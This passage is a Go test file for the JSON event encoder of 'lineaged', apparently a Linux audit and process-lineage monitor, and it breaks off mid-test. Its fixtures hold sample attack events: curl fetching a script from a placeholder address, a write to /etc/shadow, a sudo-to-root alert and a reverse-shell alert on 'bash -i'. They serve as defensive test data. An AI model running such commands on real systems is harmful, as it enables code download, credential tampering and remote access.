package output

import (
	"bytes"
	"encoding/json"
	"flag"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/lineaged/lineaged/event"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the encoder's output")

const rfc3339Milli = "2006-01-02T15:04:05.000Z07:00"

func intp(v int) *int { return &v }

// 2026-11-27T03:16:58.123Z
const t0 = 1795749418123

var bashRef = event.ProcRef{
	EntityID:   "web-01/4100/1795749400000",
	PID:        4100,
	Executable: "/usr/bin/bash",
	Args:       []string{"-bash"},
	UserID:     "1000",
}

// goldenCases are full events, one per kind of line lineaged writes. Each
// has a testdata/NAME.golden file holding the exact line (run the tests
// with -update to rewrite them) and a list of nested paths that a
// consumer reads, checked on the decoded object.
var goldenCases = []struct {
	name  string
	ev    *event.Event
	paths map[string]any
}{
	{
		name: "exec",
		ev: &event.Event{
			ID:       "web-01-81234",
			TimeMsec: t0,
			Category: "process",
			Type:     "start",
			Action:   "executed",
			Outcome:  "success",
			Message:  "bash ran /usr/bin/curl",
			Host:     "web-01",
			Process: event.Process{
				EntityID:         "web-01/4242/1795749418120",
				PID:              4242,
				PPID:             4100,
				Executable:       "/usr/bin/curl",
				Name:             "curl",
				Title:            "curl -s http://203.0.113.7/x.sh",
				Args:             []string{"curl", "-s", "http://203.0.113.7/x.sh", ""},
				WorkingDirectory: "/tmp",
				TTY:              "pts0",
				StartMsec:        1795749418120,
			},
			Parent: &bashRef,
			Ancestry: []event.ProcRef{
				bashRef,
				{EntityID: "web-01/1200/1795749300000", PID: 1200, Executable: "/usr/sbin/sshd", Args: []string{"sshd: alice@pts/0"}, UserID: "0"},
				{PID: 900, Unknown: true},
				{EntityID: "web-01/1/1795740000000", PID: 1, Executable: "/usr/lib/systemd/systemd", Args: []string{"/usr/lib/systemd/systemd", "--system"}, UserID: "0"},
			},
			User: event.User{
				// A setuid-root program run by alice: the effective,
				// saved and filesystem ids differ from the real ones.
				ID: "1000", Name: "alice", EffectiveID: "0", SavedID: "0",
				FilesysID: "0", AuditID: "1000", GroupID: "1000", EffGroupID: "1000",
			},
			Audit: &event.Audit{
				Sequence:    81234,
				Session:     "3",
				Result:      "success",
				Syscall:     "execve",
				Arch:        "x86_64",
				ExitValue:   "0",
				Keys:        []string{"exec", "egress-tools"},
				RecordTypes: []string{"SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"},
				Data:        []event.KV{{Key: "argc", Value: "4"}},
			},
		},
		paths: map[string]any{
			"@timestamp":                     "2026-11-27T03:16:58.123Z",
			"event.kind":                     "event",
			"event.category":                 []any{"process"},
			"event.type":                     []any{"start"},
			"process.pid":                    4242.0,
			"process.args":                   []any{"curl", "-s", "http://203.0.113.7/x.sh", ""},
			"auditd.data.tty":                "pts0",
			"process.start":                  "2026-11-27T03:16:58.120Z",
			"process.parent.pid":             4100.0,
			"process.parent.user.id":         "1000",
			"lineaged.ancestry.0.pid":        4100.0,
			"lineaged.ancestry.1.executable": "/usr/sbin/sshd",
			"lineaged.ancestry.2":            map[string]any{"pid": 900.0, "unknown": true},
			"process.command_line":           "curl -s http://203.0.113.7/x.sh ",
			"user.audit.id":                  "1000",
			"user.effective.id":              "0",
			"user.effective.group.id":        "1000",
			"auditd.data.fsuid":              nil, // the same as the euid
			"process.saved_user.id":          nil, // the same as the euid
			"auditd.sequence":                81234.0,
			"auditd.session":                 "3",
			"auditd.data.syscall":            "execve",
			"auditd.data.argc":               "4",
			"auditd.record_types":            nil, // output.record_types off
			"tags":                           []any{"exec", "egress-tools"},
		},
	},
	{
		name: "connect",
		ev: &event.Event{
			ID:       "web-01-81300",
			TimeMsec: t0 + 5000,
			Category: "network",
			Type:     "connection",
			Action:   "connected-to",
			Outcome:  "success",
			Host:     "web-01",
			Process: event.Process{
				EntityID: "web-01/4242/1795749418120", PID: 4242, PPID: 4100,
				Executable: "/usr/bin/curl", Name: "curl",
			},
			User:    event.User{ID: "1000", AuditID: "1000"},
			Source:  &event.Endpoint{IP: "10.0.0.5", Port: 51514},
			Dest:    &event.Endpoint{IP: "203.0.113.7", Port: 443},
			Network: &event.Network{Family: "ipv4", Transport: "tcp", Direction: "egress"},
			Audit: &event.Audit{
				Sequence: 81300, Session: "3", Result: "success",
				Syscall: "connect", Arch: "x86_64", ExitValue: "0",
				Data: []event.KV{
					{Key: "saddr", Value: "020001BBCB0071070000000000000000"},
					{Key: "syscall", Value: "42"},   // shadowed by Syscall
					{Key: "saddr", Value: "second"}, // duplicate: first wins
					{Key: "", Value: "no name"},     // no field name
					{Key: "a0", Value: ""},          // empty value
					{Key: "fam", Value: "inet"},     // kept
				},
			},
		},
		paths: map[string]any{
			"source.ip":            "10.0.0.5",
			"source.port":          51514.0,
			"destination.address":  "203.0.113.7",
			"destination.port":     443.0,
			"network.type":         "ipv4",
			"network.transport":    "tcp",
			"network.direction":    "egress",
			"auditd.socket.family": "ipv4",
			"auditd.data": map[string]any{
				"syscall": "connect", "arch": "x86_64", "exit": "0",
				"saddr": "020001BBCB0071070000000000000000", "fam": "inet",
			},
			"process.parent": map[string]any{"pid": 4100.0},
		},
	},
	{
		name: "connect-unix",
		ev: &event.Event{
			ID:       "web-01-81301",
			TimeMsec: t0 + 6000,
			Category: "network",
			Type:     "connection",
			Action:   "connected-to",
			Outcome:  "failure",
			Process:  event.Process{PID: 5150, Executable: "/usr/bin/docker"},
			Dest:     &event.Endpoint{Path: "/run/docker.sock"},
			Network:  &event.Network{Family: "unix", Direction: "egress"},
			Audit:    &event.Audit{Result: "fail", Syscall: "connect", ExitValue: "EACCES"},
		},
		paths: map[string]any{
			"destination":          map[string]any{"address": "/run/docker.sock"},
			"network":              map[string]any{"direction": "egress"},
			"auditd.socket.family": "unix",
			"auditd.data.exit":     "EACCES",
			"event.outcome":        "failure",
		},
	},
	{
		name: "file",
		ev: &event.Event{
			ID:       "db-02-5511",
			TimeMsec: t0 + 60000,
			Category: "file",
			Type:     "change",
			Action:   "wrote-to-file",
			Outcome:  "success",
			Host:     "db-02",
			Process: event.Process{
				EntityID: "db-02/777/1795749000000", PID: 777, Executable: "/usr/bin/vim.basic",
				Name: "vim", WorkingDirectory: "/root",
			},
			User: event.User{ID: "0", AuditID: "1001", EffectiveID: "0"},
			File: &event.File{
				Path: "/etc/shadow", Operation: "write", Inode: "1835017", Mode: "0100640",
				UID: "0", GID: "42", Device: "fd:00", NameType: "NORMAL",
			},
			ContainerID: "3f1e0c9a2b7d",
			Audit:       &event.Audit{Sequence: 5511, Session: "12", Result: "success", Syscall: "openat", Keys: []string{"identity"}},
		},
		paths: map[string]any{
			"file.path":               "/etc/shadow",
			"lineaged.file.operation": "write",
			"file.inode":              "1835017",
			"file.mode":               "0100640",
			"file.gid":                "42",
			"auditd.path.nametype":    nil, // NORMAL, the usual one, is left out
			"container.id":            "3f1e0c9a2b7d",
			"user.audit.id":           "1001",
			"user.effective":          nil, // the same as the real ids
			"tags":                    []any{"identity"},
		},
	},
	{
		name: "alert",
		ev: &event.Event{
			ID:       "web-01-alert-7",
			TimeMsec: t0 + 1,
			Kind:     event.KindAlert,
			Category: "intrusion_detection",
			Type:     "info",
			Action:   "privilege-escalation",
			Message:  "sudo to root from a web server's shell: \"www-data\" ran /bin/sh\n",
			Host:     "web-01",
			Process:  event.Process{PID: 6001, Executable: "/usr/bin/sudo", Args: []string{"sudo", "-s"}, ExitCode: intp(1)},
			User:     event.User{ID: "33", Name: "www-data"},
			Target:   &event.User{ID: "0", Name: "root", EffectiveID: "0"},
			Labels: []event.KV{
				{Key: "evidence_count", Value: "3"},
				{Key: "first_evidence", Value: "web-01-81234"},
			},
		},
		paths: map[string]any{
			"event.kind":                   "alert",
			"message":                      "sudo to root from a web server's shell: \"www-data\" ran /bin/sh\n",
			"user.target.name":             "root",
			"lineaged.target.effective_id": "0",
			"process.exit_code":            1.0,
			"labels.evidence_count":        "3",
			"labels.first_evidence":        "web-01-81234",
			"user":                         map[string]any{"id": "33", "name": "www-data", "target": map[string]any{"id": "0", "name": "root"}},
			"event.category":               []any{"intrusion_detection"},
			"process.args":                 []any{"sudo", "-s"},
			"process.parent":               nil, // absent
			"auditd":                       nil,
			"tags":                         nil,
			"event.id":                     "web-01-alert-7",
			"@timestamp":                   "2026-11-27T03:16:58.124Z",
			"process.executable":           "/usr/bin/sudo",
			"process.working_directory":    nil,
		},
	},
	{
		name: "exit",
		ev: &event.Event{
			ID:       "web-01-p-99",
			TimeMsec: t0 + 999,
			Category: "process",
			Type:     "end",
			Action:   "exited",
			Process:  event.Process{PID: 4242, PPID: 4100, ExitCode: intp(0)},
			Audit:    &event.Audit{RecordTypes: []string{"PROC_EXIT"}, Unparsed: []string{"type=UNKNOWN[1999] msg=audit(1795749418.123:1): x=1", ""}},
		},
		paths: map[string]any{
			"process":             map[string]any{"pid": 4242.0, "exit_code": 0.0, "parent": map[string]any{"pid": 4100.0}},
			"auditd.unparsed.1":   "",
			"auditd.record_types": nil, // output.record_types off
		},
	},
	{
		name: "empty",
		ev:   &event.Event{},
		paths: map[string]any{
			"@timestamp": "1970-01-01T00:00:00.000Z",
			"event":      map[string]any{"kind": "event"},
			"process":    nil,
			"user":       nil,
			"auditd":     nil,
			"labels":     nil,
		},
	},
}

// lookup follows a dotted path through decoded JSON; numeric segments
// index arrays.
func lookup(v any, path string) (any, bool) {
	for _, seg := range strings.Split(path, ".") {
		switch n := v.(type) {
		case map[string]any:
			var ok bool
			if v, ok = n[seg]; !ok {
				return nil, false
			}
		case []any:
			i, err := strconv.Atoi(seg)
			if err != nil || i < 0 || i >= len(n) {
				return nil, false
			}
			v = n[i]
		default:
			return nil, false
		}
	}
	return v, true
}

// checkShape fails on what the encoder promises never to write: a dotted
// key, an empty object, an empty array, an empty string outside an array.
func checkShape(t *testing.T, path string, v any) {
	t.Helper()
	switch n := v.(type) {
	case map[string]any:
		if len(n) == 0 {
			t.Errorf("%s: empty object", path)
		}
		for k, c := range n {
			if strings.Contains(k, ".") {
				t.Errorf("%s: dotted key %q", path, k)
			}
			if s, ok := c.(string); ok && s == "" {
				t.Errorf("%s.%s: empty string", path, k)
			}
			checkShape(t, path+"."+k, c)
		}
	case []any:
		if len(n) == 0 {
			t.Errorf("%s: empty array", path)
		}
		for i, c := range n {
			checkShape(t, path+"."+strconv.Itoa(i), c)
		}
	}
}

func decodeLine(t testing.TB, line []byte) map[string]any {
	t.Helper()
	if !json.Valid(line) {
		t.Fatalf("not valid JSON: %s", line)
	}
	if !utf8.Valid(line) {
		t.Fatalf("not valid UTF-8: %q", line)
	}
	var m map[string]any
	if err := json.Unmarshal(line, &m); err != nil {
		t.Fatalf("unmarshal: %v\n%s", err, line)
	}
	return m
}

func TestAppendJSONGolden(t *testing.T) {
	for _, tc := range goldenCases {
		t.Run(tc.name, func(t *testing.T) {
			got := AppendJSON(nil, tc.ev)
			golden := filepath.Join("testdata", tc.name+".golden")
			if *update {
				if err := os.WriteFile(golden, append(got, '\n'), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			want = bytes.TrimSuffix(want, []byte("\n"))
			if !bytes.Equal(got, want) {
				t.Errorf("line differs from %s\n got: %s\nwant: %s", golden, got, want)
			}

			m := decodeLine(t, got)
			checkShape(t, "", m)
			for path, want := range tc.paths {
				v, ok := lookup(m, path)
				if want == nil {
					if ok {
						t.Errorf("%s = %v, want absent", path, v)
					}
					continue
				}
				if !ok {
					t.Errorf("%s absent, want %v", path, want)
				} else if !reflect.DeepEqual(v, want) {
					t.Errorf("%s = %#v, want %#v", path, v, want)
				}
			}

			// Appending to a non-empty buffer leaves its head alone.
			prefix := []byte("prefix\n")
			got2 := AppendJSON(append([]byte(nil), prefix...), tc.ev)
			if !bytes.Equal(got2, append(prefix, got...)) {
				t.Errorf("appending after a prefix changed the output: %s", got2)
			}
		})
	}
}

// TestTopLevelOrder checks the documented member order on a line that
// has every top-level member.
func TestTopLevelOrder(t *testing.T) {
	ev := *goldenCases[0].ev
	ev.File = &event.File{Path: "/x"}
	ev.Source = &event.Endpoint{IP: "::1", Port: 1}
	ev.Dest = &event.Endpoint{IP: "::1", Port: 2}
	ev.Network = &event.Network{Family: "ipv6"}
	ev.ContainerID = "c"
	ev.Labels = []event.KV{{Key: "k", Value: "v"}}
	dec := json.NewDecoder(bytes.NewReader(AppendJSON(nil, &ev)))
	var keys []string
	depth := 0
	for {
		tok, err := dec.Token()
		if err != nil {
			break
		}
		switch tok {
		case json.Delim('{'), json.Delim('['):
			depth++
			continue
		case json.Delim('}'), json.Delim(']'):
			depth--
			continue
		}
		if s, ok := tok.(string); ok && depth == 1 && dec.More() {
			keys = append(keys, s)
			// Skip the value.
			var skip json.RawMessage
			if err := dec.Decode(&skip); err != nil {
				t.Fatal(err)
			}
		}
	}
	want := []string{"@timestamp", "ecs", "event", "message", "agent", "host", "process", "user", "file",
		"source", "destination", "network", "container", "related", "auditd", "lineaged", "labels", "tags"}
	if !reflect.DeepEqual(keys, want) {
		t.Errorf("top-level order\n got %q\nwant %q", keys, want)
	}
}

func TestAppendJSONNil(t *testing.T) {
	if got := string(AppendJSON([]byte("x"), nil)); got != "xnull" {
		t.Errorf("got %q", got)
	}
}

// escapeInvalid is the documented mapping from a Go string to the string a
// consumer decodes: each byte outside valid UTF-8 becomes the four
// characters \xNN; everything else is unchanged.
func escapeInvalid(s string) string {
	if utf8.ValidString(s) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			b.WriteString(`\x`)
			b.WriteByte(hexDigits[s[i]>>4])
			b.WriteByte(hexDigits[s[i]&0xf])
		} else {
			b.WriteString(s[i : i+size])
		}
		i += size
	}
	return b.String()
}

func TestAppendString(t *testing.T) {
	for _, tc := range []struct {
		in, json string
	}{
		{"", `""`},
		{"plain /usr/bin/x", `"plain /usr/bin/x"`},
		{"q\"b\\s", `"q\"b\\s"`},
		{"\n\r\t", `"\n\r\t"`},
		{"\x00\x01\x08\x0c\x1f\x7f", `"\u0000\u0001\u0008\u000c\u001f` + "\x7f" + `"`},
		{"caf\u00e9 \u65e5\u672c \U0001F600", "\"caf\u00e9 \u65e5\u672c \U0001F600\""},
		{"\ufffd", "\"\ufffd\""}, // a real U+FFFD is kept as it is
		{"a\u2028b\u2029c", `"a\u2028b\u2029c"`},
		// Invalid UTF-8: each byte becomes \xNN (JSON `\\xNN`).
		{"a\xffb", `"a\\xffb"`},
		{"\xc3", `"\\xc3"`},                            // truncated sequence
		{"\xc3(", `"\\xc3("`},                          // bad continuation
		{"\xc0\xaf", `"\\xc0\\xaf"`},                   // overlong '/'
		{"\xed\xa0\x80", `"\\xed\\xa0\\x80"`},          // encoded surrogate
		{"\xf4\x90\x80\x80", `"\\xf4\\x90\\x80\\x80"`}, // above U+10FFFF
		{"\x80\u00e9\xfe\n", "\"\\\\x80\u00e9\\\\xfe\\n\""},
	} {
		got := appendString(nil, tc.in)
		if string(got) != tc.json {
			t.Errorf("appendString(%q) = %s, want %s", tc.in, got, tc.json)
		}
		if !json.Valid(got) || !utf8.Valid(got) {
			t.Errorf("appendString(%q) = %s: not valid JSON/UTF-8", tc.in, got)
		}
		var back string
		if err := json.Unmarshal(got, &back); err != nil {
			t.Errorf("unmarshal %s: %v", got, err)
		} else if want := escapeInvalid(tc.in); back != want {
			t.Errorf("appendString(%q) decodes to %q, want %q", tc.in, back, want)
		}
	}
}

// TestInvalidUTF8Event puts bytes that are not UTF-8 (as a file name or an
// argv element can hold) in every kind of place a string goes.
func TestInvalidUTF8Event(t *testing.T) {
	bad := "/tmp/\xff\xfe-latin1-caf\xe9"
	const want = `/tmp/\xff\xfe-latin1-caf\xe9`
	ev := &event.Event{
		Message: bad,
		Process: event.Process{Executable: bad, Args: []string{"cat", bad}},
		File:    &event.File{Path: bad},
		Labels:  []event.KV{{Key: bad, Value: bad}},
		Audit:   &event.Audit{Data: []event.KV{{Key: "name", Value: bad}}},
	}
	line := AppendJSON(nil, ev)
	if !utf8.Valid(line) {
		t.Fatalf("output is not UTF-8: %q", line)
	}
	if !bytes.Contains(line, []byte(`\\xff\\xfe-latin1-caf\\xe9`)) {
		t.Errorf("escape missing: %s", line)
	}
	m := decodeLine(t, line)
	for _, path := range []string{"message", "process.executable", "process.args.1", "file.path", "auditd.data.name", "labels." + want} {
		// The label's key contains no dot, so lookup can follow it.
		if v, _ := lookup(m, path); v != want {
			t.Errorf("%s = %q, want %q", path, v, want)
		}
	}
}

func TestKVDuplicates(t *testing.T) {
	for _, tc := range []struct {
		a, b string
		same bool
	}{
		{"k", "k", true},
		{"k", "K", false},
		{"\xff", `\xff`, true},
		{"a\xffb", `a\xffb`, true},
		{"\xc3\xa9\xff", "\u00e9\\xff", true},
		{"\xc3\xa9\xff", "\u00e8\\xff", false},
		{"\xff", "\xfe", false},
		{"\xff", `\xf`, false},
		{"\xff", `\xffx`, false},
		{"\xff\xff", `\xff`, false},
	} {
		if got := sameKey(tc.a, tc.b); got != tc.same {
			t.Errorf("sameKey(%q, %q) = %v", tc.a, tc.b, got)
		}
		if got := sameKey(tc.b, tc.a); got != tc.same {
			t.Errorf("sameKey(%q, %q) = %v", tc.b, tc.a, got)
		}
	}

	ev := &event.Event{Labels: []event.KV{
		{Key: "\xff", Value: "first"}, {Key: `\xff`, Value: "second"},
		{Key: "x", Value: ""}, {Key: "x", Value: "set"}, {Key: "x", Value: "again"},
	}}
	line := AppendJSON(nil, ev)
	want := `{"@timestamp":"1970-01-01T00:00:00.000Z","ecs":{"version":"9.4.0"},"event":{"kind":"event"},"agent":{"type":"lineaged"},"labels":{"\\xff":"first","x":"set"}}`
	if string(line) != want {
		t.Errorf("got  %s\nwant %s", line, want)
	}
}

func TestAppendTime(t *testing.T) {
	check := func(ms int64) {
		t.Helper()
		got := appendTime(nil, ms)
		want := `"` + time.UnixMilli(ms).UTC().Format(rfc3339Milli) + `"`
		if string(got) != want {
			t.Fatalf("appendTime(%d) = %s, want %s", ms, got, want)
		}
	}
	for _, s := range []string{
		"1970-01-01T00:00:00.000Z", "1969-12-31T23:59:59.999Z", "2000-02-29T12:00:00.001Z",
		"1900-03-01T00:00:00.000Z", "2100-02-28T23:59:59.999Z", "2026-11-27T03:16:58.123Z",
		"0000-01-01T00:00:00.000Z", "9999-12-31T23:59:59.999Z", "1600-02-29T00:00:00.000Z",
	} {
		tm, err := time.Parse(rfc3339Milli, s)
		if err != nil {
			t.Fatal(err)
		}
		check(tm.UnixMilli())
		if got := string(appendTime(nil, tm.UnixMilli())); got != `"`+s+`"` {
			t.Errorf("%s formatted as %s", s, got)
		}
	}
	// Outside 0000–9999 the fallback (time's own formatting) is used.
	for _, ms := range []int64{0, -1, 1, 253402300800000, -62167219200001, math.MaxInt64, math.MinInt64} {
		check(ms)
	}
	r := rand.New(rand.NewPCG(1, 2))
	lo, hi := int64(-62167219200000), int64(253402300799999) // 0000 to 9999
	for range 200000 {
		check(lo + r.Int64N(hi-lo+1))
	}
	for range 20000 {
		check(int64(r.Uint64()))
	}
}

func TestAppendJSONAllocs(t *testing.T) {
	buf := make([]byte, 0, 8<<10)
	for _, tc := range goldenCases {
		n := testing.AllocsPerRun(100, func() { buf = AppendJSON(buf[:0], tc.ev) })
		if n != 0 {
			t.Errorf("%s: %v allocs per AppendJSON into a reused buffer, want 0", tc.name, n)
		}
	}
}

// FuzzAppendJSON builds events from fuzzed strings and checks that every
// line is valid JSON and UTF-8 and that each string decodes back to its
// input with \xNN in place of each invalid byte.
func FuzzAppendJSON(f *testing.F) {
	f.Add("id", "message", "/usr/bin/x", "k", int64(t0), 42)
	f.Add("", "", "", "", int64(0), 0)
	f.Add("a\xffb", "\u2028\"\\\n", "\xed\xa0\x80", "\x00", int64(-1), -7)
	f.Add(`\xff`, "\ufffd", "\xc3", "caf\u00e9", int64(math.MaxInt64), math.MinInt32)
	f.Fuzz(func(t *testing.T, s1, s2, s3, key string, ms int64, pid int) {
		ev := &event.Event{
			ID:       s1,
			TimeMsec: ms,
			Message:  s2,
			Host:     s3,
			Process: event.Process{
				PID: pid, Executable: s1, Args: []string{s1, s2, s3},
				TTY: s2, ExitCode: &pid, StartMsec: ms,
			},
			Parent:   &event.ProcRef{PID: pid, Executable: s3, Args: []string{s2}, UserID: s1},
			Ancestry: []event.ProcRef{{EntityID: s2, Args: []string{s3}, Unknown: pid%2 == 0}},
			User:     event.User{ID: s1, EffGroupID: s2},
			Target:   &event.User{Name: s3},
			File:     &event.File{Path: s1, NameType: s2},
			Dest:     &event.Endpoint{Path: s3, Port: pid},
			Network:  &event.Network{Family: s2},
			Audit: &event.Audit{
				Session: s3, Keys: []string{s1, s2}, Unparsed: []string{s3},
				Data: []event.KV{{Key: key, Value: s1}},
			},
			Labels: []event.KV{{Key: key, Value: s2}, {Key: s3, Value: s1}},
		}
		line := AppendJSON(nil, ev)
		m := decodeLine(t, line)

		wantTime := time.UnixMilli(ms).UTC().Format(rfc3339Milli)
		if m["@timestamp"] != wantTime {
			t.Errorf("@timestamp = %v, want %s", m["@timestamp"], wantTime)
		}
		// Empty strings are omitted; everything else decodes to its input
		// with invalid bytes escaped.
		str := func(path, in string) {
			t.Helper()
			v, ok := lookup(m, path)
			if in == "" {
				if ok {
					t.Errorf("%s = %q, want absent", path, v)
				}
				return
			}
			if want := escapeInvalid(in); v != want {
				t.Errorf("%s = %q, want %q", path, v, want)
			}
		}
		str("event.id", s1)
		str("message", s2)
		str("host.name", s3)
		str("process.executable", s1)
		str("auditd.data.tty", s2)
		str("process.parent.executable", s3)
		// Ids spelled "unset" (audit's never-set value) are omitted, and
		// so is the usual PATH nametype, NORMAL.
		id := func(v string) string {
			if v == "unset" {
				return ""
			}
			return v
		}
		nametype := s2
		if nametype == "NORMAL" {
			nametype = ""
		}
		str("process.parent.user.id", id(s1))
		str("user.id", id(s1))
		str("user.effective.group.id", id(s2))
		str("user.target.name", s3)
		str("file.path", s1)
		str("auditd.path.nametype", nametype)
		str("auditd.socket.family", s2)
		str("auditd.session", id(s3))
		str("destination.address", s3)
		if key != "" && s1 != "" && !(sameKey(key, "tty") && s2 != "") { // the tty is written first, from the process
			if v := m["auditd"].(map[string]any)["data"].(map[string]any)[escapeInvalid(key)]; v != escapeInvalid(s1) {
				t.Errorf("auditd.data[%q] = %q, want %q", key, v, escapeInvalid(s1))
			}
		}
		if key != "" && s2 != "" {
			if v := m["labels"].(map[string]any)[escapeInvalid(key)]; v != escapeInvalid(s2) {
				t.Errorf("labels[%q] = %q, want %q", key, v, escapeInvalid(s2))
			}
		}
		args, _ := lookup(m, "process.args")
		wantArgs := []any{escapeInvalid(s1), escapeInvalid(s2), escapeInvalid(s3)}
		if !reflect.DeepEqual(args, wantArgs) {
			t.Errorf("process.args = %q, want %q", args, wantArgs)
		}
		if pid != 0 {
			if v, _ := lookup(m, "process.pid"); v != float64(pid) {
				t.Errorf("process.pid = %v, want %d", v, pid)
			}
		}
	})
}

func TestAncestryArgsBounded(t *testing.T) {
	long := strings.Repeat("é", 200) // 400 bytes: the cut must land on a rune boundary
	e := &event.Event{
		Category: "process", Type: "start", Action: "executed",
		Process: event.Process{PID: 3, Args: []string{"/bin/true", long}},
		Parent:  &event.ProcRef{PID: 2, EntityID: "p", Args: []string{"sh", long}},
		Ancestry: []event.ProcRef{
			{PID: 2, EntityID: "p", Args: []string{"sh", long, "x", "y"}},
			{PID: 1, EntityID: "i", Args: []string{"/sbin/init", "splash"}},
		},
	}
	var doc struct {
		Process struct {
			Args   []string `json:"args"`
			Parent struct {
				Args []string `json:"args"`
			} `json:"parent"`
		} `json:"process"`
		Lineaged struct {
			Ancestry []struct {
				Args []string `json:"args"`
			} `json:"ancestry"`
		} `json:"lineaged"`
	}
	b := NewEncoder(Options{Ancestry: AncestryFull}).Append(nil, e)
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	if doc.Process.Args[1] != long || doc.Process.Parent.Args[1] != long {
		t.Errorf("process.args or process.parent.args were cut")
	}
	a := doc.Lineaged.Ancestry[0].Args
	if len(a) != 3 || a[0] != "sh" || !strings.HasSuffix(a[1], "…") || a[2] != "…(2 more)" {
		t.Fatalf("ancestry[0].args = %q", a)
	}
	if n := len(a[0]) + len(strings.TrimSuffix(a[1], "…")); n > AncestryArgBytes || n < AncestryArgBytes-1 {
		t.Errorf("ancestry[0] kept %d argument bytes, want about %d", n, AncestryArgBytes)
	}
	if !utf8.ValidString(a[1]) {
		t.Errorf("cut inside a rune: %q", a[1])
	}
	if got := doc.Lineaged.Ancestry[1].Args; len(got) != 2 || got[1] != "splash" {
		t.Errorf("short ancestry args changed: %q", got)
	}
}

func TestConfigEvent(t *testing.T) {
	e := &event.Event{Category: "configuration", Type: "info", Action: "settings", Module: "lineaged",
		Config: &event.ConfigInfo{Source: "/etc/lineaged/lineaged.yml",
			Settings: []event.KV{{Key: "audit.mode", Value: "own"}, {Key: "output.flush_every", Value: "100ms"}},
			Rules:    []string{"-a always,exit -F arch=b64 -S execve -F key=exec"}}}
	var doc struct {
		Lineaged struct {
			Config struct {
				Source   string            `json:"source"`
				Settings map[string]string `json:"settings"`
				Rules    []string          `json:"rules"`
			} `json:"config"`
		} `json:"lineaged"`
	}
	b := AppendJSON(nil, e)
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatalf("%v: %s", err, b)
	}
	c := doc.Lineaged.Config
	if c.Source != e.Config.Source || c.Settings["audit.mode"] != "own" || len(c.Rules) != 1 || c.Rules[0] != e.Config.Rules[0] {
		t.Fatalf("lineaged.config = %+v", c)
	}
	e.Config.Rules = nil
	if b := AppendJSON(nil, e); !bytes.Contains(b, []byte(`"rules":[]`)) {
		t.Errorf("no rules must read as an empty list: %s", b)
	}
}

func TestAlertEvent(t *testing.T) {
	e := &event.Event{ID: "r1-9.a1", Kind: event.KindAlert, Category: "intrusion_detection", Type: "indicator", Action: "reverse-shell",
		Process: event.Process{PID: 42, Executable: "/usr/bin/bash", Args: []string{"bash", "-i"}},
		Alert: &event.Alert{RuleID: "lineaged.reverse-shell", RuleName: "Reverse shell", Ruleset: "lineaged",
			Techniques: []string{"T1059.004"}, Severity: 4, RiskScore: 99, Reason: "bash connected out to 127.0.0.1:47102 \"and\" ran",
			Key: "connect|/usr/bin/bash|loopback:47102", Novel: []string{"connect|/usr/bin/bash|loopback:47102"}, Count: 1,
			Evidence: []event.Evidence{{ID: "r1-8", Summary: "connected-to 127.0.0.1:47102"}, {ID: "r1-9"}}}}
	var doc struct {
		Event struct {
			Kind      string `json:"kind"`
			Severity  int    `json:"severity"`
			RiskScore int    `json:"risk_score"`
			Reason    string `json:"reason"`
		} `json:"event"`
		Rule   struct{ ID, Name, Ruleset string } `json:"rule"`
		Threat struct {
			Technique struct {
				ID []string `json:"id"`
			} `json:"technique"`
		} `json:"threat"`
		Lineaged struct {
			Alert struct {
				Key   string   `json:"key"`
				Count int      `json:"count"`
				Novel []string `json:"novel"`
			} `json:"alert"`
			Evidence []struct{ ID, Summary string } `json:"evidence"`
		} `json:"lineaged"`
	}
	b := AppendJSON(nil, e)
	decodeLine(t, b)
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatalf("%v: %s", err, b)
	}
	a := e.Alert
	if doc.Event.Kind != "alert" || doc.Event.Severity != 4 || doc.Event.RiskScore != 99 || doc.Event.Reason != a.Reason ||
		doc.Rule.ID != a.RuleID || doc.Rule.Name != a.RuleName || doc.Rule.Ruleset != "lineaged" ||
		len(doc.Threat.Technique.ID) != 1 || doc.Threat.Technique.ID[0] != "T1059.004" ||
		doc.Lineaged.Alert.Key != a.Key || doc.Lineaged.Alert.Count != 1 || len(doc.Lineaged.Alert.Novel) != 1 ||
		len(doc.Lineaged.Evidence) != 2 || doc.Lineaged.Evidence[0].ID != "r1-8" || doc.Lineaged.Evidence[1].Summary != "" {
		t.Fatalf("alert fields wrong:\n%s\n%+v", b, doc)
	}
	// An alert that also carries a config (never today) keeps one lineaged object.
	e.Config = &event.ConfigInfo{Source: "x"}
	b = AppendJSON(nil, e)
	decodeLine(t, b)
	if bytes.Count(b, []byte(`"lineaged":`)) != 1 || !bytes.Contains(b, []byte(`"config":{"source":"x","rules":[]}`)) {
		t.Fatalf("lineaged object: %s", b)
	}
}

// TestTerseEndAndHostDetails: compact and ids write a process's end with
// its identity, code and parent ids only (its exec line has the rest;
// full writes it all), and the local host's facts and agent.id go on
// lineaged's own events and alerts unless HostDetails asks for every line.
func TestTerseEndAndHostDetails(t *testing.T) {
	code := 2
	exit := &event.Event{TimeMsec: 5, Category: event.CategoryProcess, Type: event.TypeEnd, Action: event.ActionExited,
		Module: event.ModuleProc, Host: "h",
		Process: event.Process{EntityID: "x", PID: 9, Executable: "/usr/bin/true", Name: "true", Args: []string{"true", "a"},
			WorkingDirectory: "/tmp", ExitCode: &code, StartMsec: 1},
		Ancestry: []event.ProcRef{{EntityID: "p", PID: 8, Executable: "/bin/sh", Args: []string{"sh"}}}}
	exit.Parent = &exit.Ancestry[0]
	host := &Host{Name: "h", Hostname: "h", ID: "m", OSType: "linux"}
	for _, tc := range []struct {
		mode  Ancestry
		terse bool
	}{{AncestryCompact, true}, {AncestryIDs, true}, {AncestryFull, false}} {
		m := decodeLine(t, NewEncoder(Options{Ancestry: tc.mode, Host: host, Agent: Agent{ID: "a"}}).Append(nil, exit))
		for path, want := range map[string]any{
			"process.entity_id": "x", "process.executable": "/usr/bin/true", "process.exit_code": 2.0,
			"process.parent.entity_id": "p", "host.name": "h",
		} {
